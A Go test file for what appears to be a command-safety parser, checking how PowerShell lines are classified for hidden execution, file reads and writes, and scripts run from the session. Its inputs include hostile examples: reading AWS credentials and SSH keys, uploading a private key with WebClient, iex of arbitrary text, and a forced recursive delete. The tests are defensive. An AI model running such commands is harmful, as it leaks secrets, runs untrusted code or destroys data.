package shell

import (
	"slices"
	"testing"
)

// Values, operators and loops of PowerShell run nothing that the line hides. The call operator does.
func TestPowerShellExpressions(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		`$LASTEXITCODE`, `npm test; if ($LASTEXITCODE -ne 0) { exit 1 }`, `$env:PATH`, `"$env:USERPROFILE"`, `1..3 | % { $_ * 2 }`,
		`foreach ($f in Get-ChildItem *.ts) { Write-Host $f.Name }`, `for ($i = 0; $i -lt 3; $i++) { echo $i }`, `& { Get-Date }`,
		`@('api','web') | ForEach-Object { $_.ToUpper() }`, `(Get-Content a) -replace 'x','y' | Set-Content a`, `$files = Get-ChildItem; $files | ForEach-Object { $_.Name }`,
	} {
		if s := ParseAs(PowerShell, line); len(s.Hidden()) > 0 {
			t.Errorf("%s hides %q, want nothing", line, s.Hidden())
		}
	}
	for _, line := range []string{
		`& $cmd arg`, `. $script`, `& "$env:TEMP\x.exe"`, `& (Get-Command x) arg`, `$text | iex`, `iex $text`, `$block.Invoke()`,
	} {
		if s := ParseAs(PowerShell, line); len(s.Hidden()) == 0 {
			t.Errorf("%s hides nothing", line)
		}
	}
}

// Paths of Windows are read like others, and the files of cmdlets and of WebClient are known.
func TestPowerShellFiles(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]File{
		`Get-Content $env:USERPROFILE\.aws\credentials`:                {Path: "~/.aws/credentials", Use: UseRead},
		`gc "$HOME\.ssh\id_ed25519"`:                                   {Path: "~/.ssh/id_ed25519", Use: UseRead},
		`gc C:\Users\dev\.ssh\id_ed25519`:                              {Path: "C:/Users/dev/.ssh/id_ed25519", Use: UseRead},
		`Copy-Item .env.example .env`:                                  {Path: ".env", Use: UseWrite},
		`Copy-Item -Path a -Destination b -ErrorAction Stop`:           {Path: "b", Use: UseWrite},
		`Add-Content $PROFILE "x"`:                                     {Path: "~/.config/powershell/profile.ps1", Use: UseWrite},
		`$wc.UploadFile('https://example.com/u', "$HOME\.ssh\id_rsa")`: {Path: "~/.ssh/id_rsa", Use: UseRead},
	} {
		var files []File
		s := ParseAs(PowerShell, line)
		for i := range s.Commands {
			files = append(files, s.Commands[i].Files()...)
		}
		if !slices.ContainsFunc(files, func(f File) bool { return f.Path == want.Path && f.Use == want.Use }) {
			t.Errorf("%s has the files %+v, want %+v", line, files, want)
		}
	}
}

// A script of the session is read wherever PowerShell gets it.
func TestPowerShellScripts(t *testing.T) {
	t.Parallel()
	past := &Past{Texts: func(name string) []Text {
		if name != "clean.ps1" && name != "./clean.ps1" {
			return nil
		}
		return []Text{{Text: "Remove-Item -Recurse -Force .\\src"}}
	}}
	for line, language := range map[string]string{
		"pwsh -File clean.ps1": "", "pwsh clean.ps1": "", "powershell.exe -NoProfile -File clean.ps1": "", `.\clean.ps1`: PowerShell, `& .\clean.ps1`: PowerShell,
	} {
		s := ParseAfter(past, language, line)
		if !slices.ContainsFunc(s.Commands, func(c Command) bool { return c.Name == "rm" }) {
			t.Errorf("%s runs %v, want rm", line, s.Commands)
		}
	}
}
